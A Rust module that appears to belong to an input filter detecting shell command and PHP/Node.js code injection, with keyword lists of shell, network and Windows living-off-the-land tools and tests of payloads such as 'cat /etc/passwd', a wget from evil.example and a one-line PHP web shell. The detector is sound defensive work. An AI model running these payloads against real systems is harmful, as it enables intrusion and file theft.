//! Command and code injection: a shell metacharacter followed by a command, and calls of
//! functions that run commands or code (PHP, Node.js) where a statement may start.

/// Commands that are never an English word after `;` or `|`.
const COMMANDS: &[&str] = &[
    "whoami",
    "uname",
    "ifconfig",
    "ipconfig",
    "nslookup",
    "wget",
    "curl",
    "netcat",
    "ncat",
    "nc",
    "bash",
    "sh",
    "zsh",
    "ksh",
    "csh",
    "dash",
    "powershell",
    "pwsh",
    "cmd",
    "python",
    "python2",
    "python3",
    "perl",
    "ruby",
    "php",
    "telnet",
    "systeminfo",
    "netstat",
    "passwd",
    "chmod",
    "chown",
    "useradd",
    "crontab",
    "base64",
    "xterm",
    "socat",
    "tftp",
    "certutil",
    "bitsadmin",
    "rundll32",
    "regsvr32",
    "wmic",
    "mshta",
    "nmap",
    "tasklist",
    "taskkill",
    "net",
    "awk",
    "gawk",
    "sed",
    "xargs",
    "busybox",
    "nohup",
    "sudo",
    "su",
    "timeout",
    "getent",
    "lsof",
    "pkill",
    "killall",
];
/// Commands that are also words: they count only with an argument that looks like one.
const WORD_COMMANDS: &[&str] = &[
    "cat", "ls", "id", "echo", "ping", "sleep", "rm", "cp", "mv", "dir", "type", "find", "kill",
    "ps", "env", "set", "more", "less", "head", "tail", "touch", "who", "w", "uptime", "hostname",
    "grep", "tac", "nl", "od", "tee", "mkdir", "exec", "eval", "export", "printf", "dig", "host",
    "whoami", "del", "copy", "ver", "vol", "java", "node", "tar", "zip", "unzip", "chmod",
];
/// Functions that run a command or code when called with attacker data.
const EXEC_FUNCTIONS: &[&str] = &[
    "system",
    "exec",
    "shell_exec",
    "passthru",
    "popen",
    "proc_open",
    "pcntl_exec",
    "eval",
    "assert",
    "create_function",
    "call_user_func",
    "call_user_func_array",
    "preg_replace",
    "file_get_contents",
    "file_put_contents",
    "fopen",
    "readfile",
    "include",
    "require",
    "include_once",
    "require_once",
    "base64_decode",
    "gzinflate",
    "str_rot13",
    "execsync",
    "spawn",
    "spawnsync",
    "execfile",
];

/// The rule `value` (lower-cased) breaks, if any.
pub fn check(value: &str) -> Option<&'static str> {
    let value = value
        .replace("${ifs}", " ")
        .replace("$ifs", " ")
        .replace("$@", "");
    let bytes = value.as_bytes();
    for (at, byte) in bytes.iter().enumerate() {
        let after = match byte {
            b';' | b'|' | b'&' | b'`' | b'\n' => &value[at + 1..],
            b'$' if bytes.get(at + 1) == Some(&b'(') => &value[at + 2..],
            _ => continue,
        };
        if command_follows(after) {
            return Some("cmd.shell_command");
        }
    }
    if value.contains("<?php")
        || value.contains("<?=")
        || value.contains("php://")
        || value.contains("phar://")
    {
        return Some("code.php");
    }
    if value.contains("child_process")
        || value.contains("process.mainmodule")
        || value.contains(".constructor.constructor(")
        || value.contains("require('child")
        || value.contains("process.binding(")
    {
        return Some("code.nodejs");
    }
    exec_call(&value).then_some("code.exec_call")
}

fn command_follows(after: &str) -> bool {
    let start = after.trim_start_matches([' ', '\t', '|', '&', '(', '{', '\n', '\r']);
    let end = start
        .find(|c: char| {
            c.is_whitespace() || matches!(c, ';' | '|' | '&' | '`' | ')' | '<' | '>' | '}' | ',')
        })
        .unwrap_or(start.len());
    // Quotes and backslashes inside a word vanish in the shell: `c'a't`, `w\ho\am\i`.
    let word: String = start[..end]
        .chars()
        .filter(|c| !matches!(c, '\'' | '"' | '\\'))
        .collect();
    let name = word
        .rsplit(['/', '\\'])
        .next()
        .unwrap_or_default()
        .trim_end_matches(".exe");
    if name.is_empty() {
        return false;
    }
    let path_given = word.contains('/') && (word.starts_with('/') || word.starts_with("./"));
    let rest = &start[end..];
    if COMMANDS.contains(&name) || (path_given && (word.contains("bin/") || word.starts_with("./")))
    {
        return true;
    }
    if !WORD_COMMANDS.contains(&name) {
        return false;
    }
    let argument = rest.trim_start_matches([' ', '\t']);
    let spaced = rest.len() > argument.len();
    argument.is_empty() && rest.is_empty()
        || argument.starts_with(['`', ';', '|', '&', ')', '>', '<'])
        || (spaced && argument.starts_with(['-', '/', '.', '$', '~', '\'', '"', '%', '\\', '*']))
        || (spaced
            && argument.as_bytes().first().is_some_and(u8::is_ascii_digit)
            && name == "sleep")
}

/// `system('id')`, `';eval($_POST[x]);//`: an exec function called where a statement starts
/// (value start or after `;`, `{`, `}`, `(`, a quote or string concatenation).
fn exec_call(value: &str) -> bool {
    for function in EXEC_FUNCTIONS {
        let mut from = 0;
        while let Some(found) = value[from..].find(function) {
            let at = from + found;
            from = at + function.len();
            let after = value[from..].trim_start();
            if !after.starts_with('(') {
                continue;
            }
            let before = value[..at].trim_end();
            let starts_statement = before.is_empty()
                || before.ends_with([';', '{', '}', '(', '\'', '"', '.', '`', '@', '|', '&', '='])
                || before.ends_with("<?php");
            let argument_is_input = after[1..].trim_start().starts_with(['$', '\'', '"', '`'])
                || after[1..].contains("$_");
            if starts_statement && argument_is_input {
                return true;
            }
        }
    }
    false
}

#[cfg(test)]
mod tests {
    use super::check;

    #[test]
    fn injections_are_found() {
        for value in [
            "127.0.0.1; cat /etc/passwd",
            "x|whoami",
            "a && wget http://evil.example/x.sh",
            "`id`",
            "$(uname -a)",
            "x;c'a't /etc/hosts",
            "foo;/bin/sh -c ls",
            "a;${ifs}ls${ifs}-la",
            "1|sleep 5",
            "<?php system($_get['c']); ?>",
            "system('id');",
            "';eval($_post[x]);//",
            "require('child_process').exec('ls')",
        ] {
            assert!(check(value).is_some(), "missed {value:?}");
        }
    }

    #[test]
    fn prose_and_code_talk_are_not() {
        for value in [
            "tom & jerry; cat food is on sale",
            "salt & pepper | fish & chips",
            "r&d; id card renewal",
            "call system(config) only after init",
            "use eval(x) sparingly in templates",
            "the command line is documented in the ls man page",
            "5 mg; sleep well",
        ] {
            assert_eq!(check(value), None, "flagged {value:?}");
        }
    }
}
